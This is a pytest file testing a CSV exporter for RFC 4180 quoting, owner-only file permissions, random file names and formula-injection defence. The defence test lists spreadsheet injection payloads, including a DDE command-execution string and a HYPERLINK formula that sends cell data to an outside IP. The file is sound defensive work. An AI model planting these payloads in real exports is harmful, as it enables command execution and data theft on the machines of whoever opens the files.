"""Rows as CSV files: as RFC 4180 has it, for their owner alone, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest

from groundwire.errors import UnavailableError
from groundwire.sparql.exports import write_csv


def read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_rows_are_written_as_rfc_4180_has_it(tmp_path: Path) -> None:
    export = write_csv(
        tmp_path / "exports",
        ["name", "said", "n", "ok"],
        [["Ann", 'He said "no",\r\nthen left', -5, True], ["北京", None, 1.5, False]],
    )
    assert (
        export.path.read_bytes()
        == (
            'name,said,n,ok\r\nAnn,"He said ""no"",\r\nthen left",-5,true\r\n北京,,1.5,false\r\n'
        ).encode()
    )
    assert (export.rows, export.prefixed) == (2, 0)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+49 30 1234",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "＝1+1",
        "＠SUM(A1)",
        '=HYPERLINK("http://198.51.100.1/?"&A1)',
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_a_text(tmp_path: Path, cell: str) -> None:
    export = write_csv(tmp_path, ["x"], [[cell]])
    assert read(export.path) == [["x"], [f"'{cell}"]]
    assert export.prefixed == 1


def test_a_header_is_a_cell_too(tmp_path: Path) -> None:
    export = write_csv(tmp_path, ["=1+1", "b"], [])
    assert read(export.path) == [["'=1+1", "b"]]
    assert (export.rows, export.prefixed) == (0, 1)


@pytest.mark.parametrize(
    "cell", ["-5", "+3.25", "-1e9", ".5", "a=b", "2024-01-01", "", "http://e/=x"]
)
def test_numbers_and_harmless_texts_stay_as_they_are(tmp_path: Path, cell: str) -> None:
    export = write_csv(tmp_path, ["x", "y"], [[cell, "z"]])
    assert read(export.path)[1] == [cell, "z"]
    assert export.prefixed == 0


@pytest.mark.skipif(os.name == "nt", reason="modes of files are a matter of POSIX")
def test_only_the_owner_may_read_it(tmp_path: Path) -> None:
    folder = tmp_path / "home" / "exports"
    export = write_csv(folder, ["x"], [["y"]])
    assert folder.stat().st_mode & 0o777 == 0o700
    assert export.path.stat().st_mode & 0o777 == 0o600


def test_names_are_random_and_nothing_is_written_over(tmp_path: Path) -> None:
    paths = {write_csv(tmp_path, ["x"], [[number]]).path for number in range(20)}
    assert len(paths) == 20
    assert all(len(path.stem) > 16 for path in paths)
    assert sorted(read(path)[1][0] for path in paths) == sorted(str(n) for n in range(20))


def test_a_folder_that_cannot_be_written_is_said_with_the_way_out(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x", "utf-8")
    with pytest.raises(UnavailableError, match="without export, or set GROUNDWIRE_HOME"):
        write_csv(tmp_path / "file" / "exports", ["x"], [["y"]])
